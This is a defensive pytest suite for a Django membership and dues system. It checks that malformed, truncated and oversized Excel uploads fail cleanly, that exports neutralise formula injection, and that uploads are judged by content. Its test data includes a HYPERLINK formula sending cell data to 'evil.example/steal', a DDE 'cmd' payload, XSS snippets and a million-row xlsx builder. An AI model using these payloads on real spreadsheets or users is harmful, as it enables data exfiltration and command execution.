"""Hostile input: malformed or oversized Excel files change nothing and get a clear Chinese message (never an
unhandled exception); exports never let a cell become a formula; uploads are judged by content and downloads
are never rendered inline."""

import io
import random
import re
import zipfile
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from dangjian.accounts.models import AdminRole
from dangjian.core import audit
from dangjian.dues import exporting as dues_exporting
from dangjian.dues import importing as payroll
from dangjian.dues.models import DuesBase
from dangjian.imports.models import ImportJob
from dangjian.core.uploads import check_upload
from dangjian.members import exporting as roster_exporting
from dangjian.members import importing as roster
from dangjian.members.models import Person
from dangjian.orgs.models import Organisation, Role
from tests.factories import make_person, make_user

pytestmark = pytest.mark.django_db
ROOT = Path(__file__).resolve().parent.parent
KEYS = [c.key for c in roster.COLUMNS]
HUGE = "党" * (1024 * 1024 // 3 + 1)  # ≥ 1 MB of UTF-8 text in one cell
FORMULAS = ['=HYPERLINK("http://evil.example/steal?d="&A1,"点我")', "=1+1", '=cmd|" /C calc"!A0', "=A1"]
INJECTIONS = ['=HYPERLINK("http://evil.example/","点我")', "=1+1", "+1+1", "-1+1", "@SUM(A1)"]


def roster_row(**values):
    base = {"name": "王老师", "gender": "女", "birth_date": "1985-05-20", "org": "实验中学第一党支部",
            "status": "正式党员", "joined_on": "2009-07-01", "full_member_on": "2010-07-01"}
    base.update(values)
    return [base.get(k) for k in KEYS]


def xlsx(rows, headers):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(headers)
    for values in rows:
        sheet.append(values)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def roster_xlsx(rows):
    return xlsx(rows, [c.header for c in roster.COLUMNS])


def huge_xlsx(header, data_row, rows=1_000_000, dimension=True):
    """A valid .xlsx with `rows` identical data rows, built without openpyxl writing them one by one: a small
    workbook's sheet part is replaced by a streamed one (rows without r attributes compress to almost nothing).
    Excel always stores the sheet's <dimension>; dimension=False leaves it out, as a hostile file would."""
    small = xlsx([], header)
    cells = "".join(f'<c t="inlineStr"><is><t>{v}</t></is></c>' if v is not None else "<c/>" for v in data_row)
    head = "".join(f'<c t="inlineStr"><is><t>{v}</t></is></c>' for v in header)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(small)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            if item.filename != "xl/worksheets/sheet1.xml":
                target.writestr(item, source.read(item.filename))
                continue
            with target.open("xl/worksheets/sheet1.xml", "w") as sheet:
                sheet.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')
                if dimension:
                    last = openpyxl.utils.get_column_letter(max(len(header), len(data_row)))
                    sheet.write(f'<dimension ref="A1:{last}{rows + 1}"/>'.encode())
                sheet.write(b"<sheetData>" + f"<row>{head}</row>".encode())
                block = (f"<row>{cells}</row>" * 10_000).encode()
                for _ in range(rows // 10_000):
                    sheet.write(block)
                sheet.write(b"</sheetData></worksheet>")
    return out.getvalue()


def truncated(data, fraction):
    return data[: int(len(data) * fraction)]


def random_bytes(seed, size):
    return random.Random(seed).randbytes(size)


def zip_not_xlsx():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("readme.txt", "这不是工作簿")
        archive.writestr("xl/workbook.xml", "<not-really/>")
    return out.getvalue()


def messages_of(exc):
    if hasattr(exc, "message_dict"):
        return [m for ms in exc.message_dict.values() for m in ms]
    return list(exc.messages)


CJK = re.compile(r"[\u4e00-\u9fff]")


def assert_clear(messages):
    assert messages
    for message in messages:
        assert CJK.search(message), message
        assert len(message) < 300, message[:300]  # a huge cell is never echoed back whole
        assert message != roster.MSG_SYSTEM_ERROR  # the catch-all means an exception escaped the checks


# --- roster import --------------------------------------------------------------------------------------

@pytest.fixture
def secretary(tree):
    return make_user("hostile_sec", Role.SECRETARY, tree["school_a"])


def try_roster(actor, data, name="名册.xlsx"):
    """Submit and run an import; return its Chinese messages. Nothing may be imported."""
    before = Person.objects.count()
    try:
        job = roster.roster_import_submit(actor=actor, upload=SimpleUploadedFile(name, data))
    except ValidationError as exc:
        messages = messages_of(exc)
    else:
        roster.roster_import_start(job, in_thread=False)
        job.refresh_from_db()
        assert job.status == ImportJob.State.FAILED, job.errors
        assert job.content is None  # the file is not kept
        messages = [reason for _, _, reason in job.errors]
    assert Person.objects.count() == before
    assert_clear(messages)
    return messages


@pytest.mark.parametrize("seed,size", [(1, 0), (2, 1), (3, 100), (4, 4096), (5, 200_000)])
def test_roster_import_refuses_random_bytes(tree, secretary, seed, size):
    try_roster(secretary, random_bytes(seed, size))


def test_roster_import_refuses_random_bytes_that_start_like_a_zip(tree, secretary):
    try_roster(secretary, b"PK\x03\x04" + random_bytes(7, 5000))


def test_roster_import_refuses_a_zip_that_is_not_a_workbook(tree, secretary):
    messages = try_roster(secretary, zip_not_xlsx())
    assert any("不是有效的 Excel 工作簿" in m for m in messages)


@pytest.mark.parametrize("fraction", [0.1, 0.5, 0.9, 0.99])
def test_roster_import_refuses_a_truncated_workbook(tree, secretary, fraction):
    try_roster(secretary, truncated(roster_xlsx([roster_row()] * 50), fraction))


def test_roster_import_refuses_a_workbook_whose_sheet_is_damaged(tree, secretary):
    good = roster_xlsx([roster_row()])
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good)) as source, zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                content = content[: len(content) // 2]  # XML cut in the middle
            target.writestr(item, content)
    try_roster(secretary, out.getvalue())


def test_roster_import_refuses_a_1_mb_cell_without_echoing_it(tree, secretary):
    messages = try_roster(secretary, roster_xlsx([roster_row(name=HUGE), roster_row(professional_title=HUGE,
                                                                                    phone=HUGE, org=HUGE)]))
    assert "不能超过50个字符" in messages


def test_roster_import_never_takes_formulas_as_data(tree, secretary):
    rows = [roster_row(name=FORMULAS[0]), roster_row(gender=FORMULAS[1]), roster_row(org=FORMULAS[2]),
            roster_row(status=FORMULAS[3], name="李老师")]
    messages = try_roster(secretary, roster_xlsx(rows))
    assert "必填项未填写" in messages  # a formula cell has no value to import


@pytest.mark.parametrize("wrong", [
    {"name": 12345, "gender": True, "birth_date": 19850520},
    {"birth_date": True, "joined_on": 3.5, "full_member_on": "明天"},
    {"id_number": 110105194912310021, "phone": 13912345678.0},
    {"status": date(2020, 1, 1), "gender": datetime(2020, 1, 1, 8, 0)},
    {"is_class_teacher": date(2020, 1, 1), "is_backbone": 2, "is_administrative": "也许"},
    {"name": "   ", "org": 0, "group": False},
])
def test_roster_import_reports_wrong_cell_types_without_crashing(tree, secretary, wrong):
    try_roster(secretary, roster_xlsx([roster_row(**wrong)]))


def test_roster_import_refuses_a_million_rows_quickly_with_the_row_limit(tree, secretary, settings):
    data = huge_xlsx([c.header for c in roster.COLUMNS], roster_row())
    assert len(data) < settings.IMPORT_MAX_BYTES  # passes the size limit: the row limit must stop it
    messages = try_roster(secretary, data)
    assert messages == [f"一次最多导入{roster.MAX_ROWS}行，请分成多个文件导入。"]


def test_roster_import_refuses_oversized_files_before_reading_them(tree, secretary, settings):
    settings.IMPORT_MAX_BYTES = 10_000
    messages = try_roster(secretary, roster_xlsx([roster_row(name=f"教师{i}") for i in range(400)]))
    assert any("文件过大" in m for m in messages)


def test_roster_import_refuses_other_extensions(tree, secretary):
    messages = try_roster(secretary, roster_xlsx([roster_row()]), name="名册.html")
    assert any(".xlsx" in m for m in messages)


# --- payroll import ----------------------------------------------------------------------------------------

PAYROLL_HEADERS = ["姓名", "身份证号", "岗位工资", "薪级工资", "个人所得税"]


def try_payroll(actor, org, data, name="工资表.xlsx"):
    """Submit, read, map and import a payroll file; return the Chinese messages. No base may be written."""
    before = DuesBase.objects.count()
    try:
        job = payroll.payroll_submit(actor=actor, upload=SimpleUploadedFile(name, data))
        headers, _ = payroll.read_sheet(job)
        columns = payroll.remembered(org, headers)
        job = payroll.payroll_import(actor=actor, job=job, org=org, month=date(2026, 1, 1), columns=columns)
    except ValidationError as exc:
        messages = messages_of(exc)
    else:
        assert job.status == ImportJob.State.FAILED, job.errors
        messages = [reason for _, _, reason in job.errors]
    assert DuesBase.objects.count() == before
    assert_clear(messages)
    return messages


@pytest.fixture
def member(tree):
    return make_person(tree["branch_a1"], name="赵老师")


def payroll_row(member, **values):
    row = dict(zip(PAYROLL_HEADERS, [member.name, member.get_id_number(), 3000, 1000, 100]))
    row.update(values)
    return list(row.values())


def payroll_xlsx(rows, headers=PAYROLL_HEADERS):
    return xlsx(rows, headers)


@pytest.mark.parametrize("data", [
    random_bytes(11, 0), random_bytes(12, 3000), b"PK\x03\x04" + random_bytes(13, 3000), zip_not_xlsx(),
], ids=["empty", "random", "zip-magic", "zip-not-xlsx"])
def test_payroll_import_refuses_files_that_are_not_workbooks(tree, secretary, data):
    try_payroll(secretary, tree["school_a"], data)


@pytest.mark.parametrize("fraction", [0.3, 0.9, 0.99])
def test_payroll_import_refuses_a_truncated_workbook(tree, secretary, member, fraction):
    try_payroll(secretary, tree["school_a"], truncated(payroll_xlsx([payroll_row(member)] * 50), fraction))


def test_payroll_import_refuses_a_1_mb_cell(tree, secretary, member):
    messages = try_payroll(secretary, tree["school_a"], payroll_xlsx([
        payroll_row(member, 岗位工资=HUGE), payroll_row(member, 身份证号=HUGE, 姓名=HUGE)]))
    assert "不是有效的金额" in messages


def test_payroll_import_never_takes_formulas_as_data(tree, secretary, member):
    messages = try_payroll(secretary, tree["school_a"], payroll_xlsx([
        payroll_row(member, 身份证号=FORMULAS[0]), payroll_row(member, 岗位工资="=1+1", 个人所得税=FORMULAS[2])]))
    assert "未填写，无法识别党员" in messages


@pytest.mark.parametrize("wrong", [
    {"岗位工资": True}, {"岗位工资": date(2026, 1, 1)}, {"岗位工资": "两千"}, {"岗位工资": "NaN"},
    {"岗位工资": "Infinity"}, {"岗位工资": "1e30"}, {"岗位工资": "-1e30"}, {"岗位工资": 1e300},
    {"岗位工资": "9" * 5000}, {"岗位工资": -99999}, {"身份证号": 110105194912310021},
    {"身份证号": datetime(2020, 1, 1)}, {"姓名": 42, "身份证号": None},
])
def test_payroll_import_reports_wrong_cell_types_and_absurd_amounts_without_crashing(tree, secretary, member,
                                                                                     wrong):
    try_payroll(secretary, tree["school_a"], payroll_xlsx([payroll_row(member, **wrong)]))


def test_payroll_import_refuses_a_formula_header_and_writes_it_as_text_in_the_error_file(tree, secretary, member):
    headers = ['=HYPERLINK("http://evil.example/","身份证号")', "岗位工资"]
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(headers + [None])
    sheet["A1"].data_type = "s"  # the text itself, as a hostile file stores it (not a formula)
    sheet.append(["x", 1000])
    buffer = io.BytesIO()
    workbook.save(buffer)
    data = buffer.getvalue()
    job = payroll.payroll_submit(actor=secretary, upload=SimpleUploadedFile("工资表.xlsx", data))
    job = payroll.payroll_import(actor=secretary, job=job, org=tree["school_a"], month=date(2026, 1, 1),
                                 columns={headers[0]: payroll.ID_NUMBER, headers[1]: payroll.PAY})
    assert job.status == ImportJob.State.FAILED and not DuesBase.objects.exists()
    assert [c for _, c, _ in job.errors] == [headers[0]]
    sheet = openpyxl.load_workbook(io.BytesIO(roster.errors_workbook(job))).active
    cell = sheet.cell(row=2, column=2)
    assert cell.value == headers[0] and cell.data_type == "s"


def test_payroll_import_refuses_a_million_rows_with_the_row_limit(tree, secretary, member):
    data = huge_xlsx(PAYROLL_HEADERS, [member.name, "110105194912310021", 3000, 1000, 100])
    messages = try_payroll(secretary, tree["school_a"], data)
    assert messages == [f"一次最多导入{payroll.MAX_ROWS}行，请分成多个文件导入。"]


SHEET_WITHOUT_DIMENSION_PROBE = """
import sys
import django
django.setup()
from django.core.exceptions import ValidationError
from dangjian.members.importing import check_xlsx
try:
    check_xlsx(open(sys.argv[1], "rb").read())
except ValidationError as exc:
    print("refused:", exc.messages[0])
"""


def test_a_million_rows_without_a_stored_dimension_are_refused_quickly_at_upload(tmp_path):
    """openpyxl's read-only mode parses a whole sheet that lacks <dimension> just to size it (minutes for a
    million rows, inside the upload request). The upload check (check_xlsx, used by the roster and the payroll
    import) must refuse such a file quickly, before openpyxl sizes it; every later reader only sees files that
    passed it."""
    import os
    import subprocess
    import sys

    path = tmp_path / "hostile.xlsx"
    path.write_bytes(huge_xlsx([c.header for c in roster.COLUMNS], roster_row(), dimension=False))
    env = dict(os.environ, DJANGO_SETTINGS_MODULE="dangjian.settings", DANGJIAN_TESTING="1")
    try:
        result = subprocess.run([sys.executable, "-c", SHEET_WITHOUT_DIMENSION_PROBE, str(path)], cwd=ROOT, env=env,
                                capture_output=True, text=True, timeout=30)
    except subprocess.TimeoutExpired:
        pytest.fail("check_xlsx spent over 30 s on a 1 000 000-row sheet without <dimension> (openpyxl parses the "
                    "whole sheet to size it): it must count rows / unzipped size before opening the workbook")
    assert result.returncode == 0, result.stderr[-2000:]
    assert "refused:" in result.stdout and CJK.search(result.stdout)


# --- exports: no formula injection ---------------------------------------------------------------------------

def cells_of(content):
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return {cell.value: cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
            if cell.value is not None}


def assert_inert(cells, text):
    """`text` is in the workbook as a string cell (Excel shows it, never evaluates it), possibly behind an
    apostrophe; no cell anywhere is a formula."""
    cell = cells.get(text) or cells.get("'" + text)
    assert cell is not None, text
    assert cell.data_type == "s", (text, cell.data_type)


def no_formulas(cells):
    assert not [c for c in cells.values() if c.data_type == "f"]


def test_roster_export_writes_formula_like_text_as_text(tree):
    actor = make_user("export_admin", Role.ORG_ADMIN, tree["school_a"])
    for index, text in enumerate(INJECTIONS):
        make_person(tree["branch_a1"], name=text[:50], professional_title=f"=1+{index}", ethnicity="@汉族")
    cells = cells_of(roster_exporting.roster_export(actor=actor, params={}).content)
    for text in INJECTIONS:
        assert_inert(cells, text[:50])
    assert_inert(cells, "=1+0")
    assert_inert(cells, "@汉族")
    no_formulas(cells)


def test_dues_publication_export_writes_an_organisation_name_as_text(tree):
    actor = make_user("pub_admin", Role.ORG_ADMIN, tree["school_a"])
    Organisation.objects.filter(pk=tree["branch_a1"].pk).update(name=INJECTIONS[0])
    Organisation.objects.filter(pk=tree["school_a"].pk).update(name="=1+1")
    org = Organisation.objects.get(pk=tree["school_a"].pk)
    money = Decimal("10.00")
    row = {"org__name": INJECTIONS[0], "members": 1, "bills": 12, "paid_bills": 12, "rate": "100%", "due": money,
           "collected": money, "owed": Decimal("0"), "voluntary": Decimal("0"), "centre": Decimal("0")}
    rows = [row, dict(row, org__name="-1+1"), dict(row, org__name="@SUM(A1)")]
    content = dues_exporting.publication_export(actor=actor, context={
        "org": org, "year": 2026, "rows": rows, "totals": dict(row, org__name="合计"), "today": date(2026, 9, 1)})
    cells = cells_of(content)
    for text in (INJECTIONS[0], "-1+1", "@SUM(A1)", "=1+1 2026年度党费收缴情况公示"):
        assert_inert(cells, text)
    no_formulas(cells)


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_audit_export_neutralises_formula_like_text(tree, client, fmt):
    auditor = make_user("export_auditor", admin_role=AdminRole.AUDIT)
    for text in INJECTIONS:
        audit.record(actor=auditor, event=audit.Event.CREATE, object_type="members.person", object_id="1",
                     object_repr=text, changes={"name": text})
    client.force_login(auditor)
    response = client.get(reverse("core:audit"), {"export": fmt})
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if fmt == "csv":
        text = body.decode("utf-8-sig")
        for line in text.splitlines():
            for field in line.split(","):
                assert field.lstrip('"')[:1] not in ("=", "+", "-", "@"), line
        assert "'=1+1" in text
        return
    cells = cells_of(body)
    for text in INJECTIONS:
        assert "'" + text in cells and cells["'" + text].data_type == "s"
    no_formulas(cells)


# --- uploads: judged by content, never served inline -------------------------------------------------------

@pytest.mark.parametrize("name,data", [
    ("纪要.pdf", b"<html><script>alert(1)</script></html>"),
    ("照片.jpg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
    ("会议.png", b"GIF89a" + b"\x00" * 20),
    ("记录.pdf", b"MZ\x90\x00" + b"\x00" * 60),
])
def test_uploads_are_judged_by_their_content_not_their_name(name, data):
    with pytest.raises(ValidationError) as caught:
        check_upload(SimpleUploadedFile(name, data, content_type="application/pdf"))
    assert "只能上传" in messages_of(caught.value)[0]


def test_a_real_pdf_is_accepted_whatever_its_name_says():
    assert check_upload(SimpleUploadedFile("x.html", b"%PDF-1.7\n" + b"0" * 100, content_type="text/html")) == (
        "application/pdf", "pdf")


def test_every_file_download_in_the_code_is_an_attachment_with_nosniff():
    """FileResponse is only used with as_attachment=True, and every view that returns a workbook or file sets
    Content-Disposition: attachment (X-Content-Type-Options: nosniff is on every response via settings)."""
    sources = {p: p.read_text(encoding="utf-8") for p in (ROOT / "dangjian").rglob("*.py")}
    file_responses = [(p, m.group(0)) for p, s in sources.items() for m in re.finditer(r"FileResponse\([^)]*\)", s)]
    assert file_responses
    for path, call in file_responses:
        assert "as_attachment=True" in call, (path, call)
    for path, source in sources.items():
        for match in re.finditer(r"HttpResponse\((?:[^()]|\([^()]*\))*content_type=(XLSX|\"application/vnd)", source):
            following = source[match.end(): match.end() + 400]
            assert "Content-Disposition" in following, (path, match.group(0))
    assert roster_exporting.content_disposition("名册.xlsx").startswith("attachment;")
    from django.conf import settings

    assert settings.SECURE_CONTENT_TYPE_NOSNIFF is True
